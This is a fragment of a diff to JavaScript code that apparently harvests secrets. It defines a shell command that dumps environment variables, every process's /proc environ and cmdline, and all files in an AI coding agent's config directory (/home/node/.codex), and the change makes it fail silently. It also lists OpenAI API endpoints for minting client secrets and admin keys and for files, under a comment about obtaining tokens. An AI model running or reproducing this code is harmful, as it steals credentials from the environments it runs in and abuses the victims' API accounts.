@@ -23,7 +23,7 @@ const STEPS = [
 ];
 /** Everything that a process could have been handed, and the program's own files. */
 const LOOK = `env; for file in /proc/*/environ /proc/*/cmdline; do cat $file 2>/dev/null | tr '\\0' '\\n'; done
-find /home/node/.codex -type f -exec cat {} +`;
+find /home/node/.codex -type f -exec cat {} + 2>/dev/null; true`;
 /** Keys and tokens may be had there, or something be published. */
 const MINTING = {
   "api.openai.com": ["/v1/realtime/client_secrets", "/v1/organization/admin_api_keys", "/v1/files"],
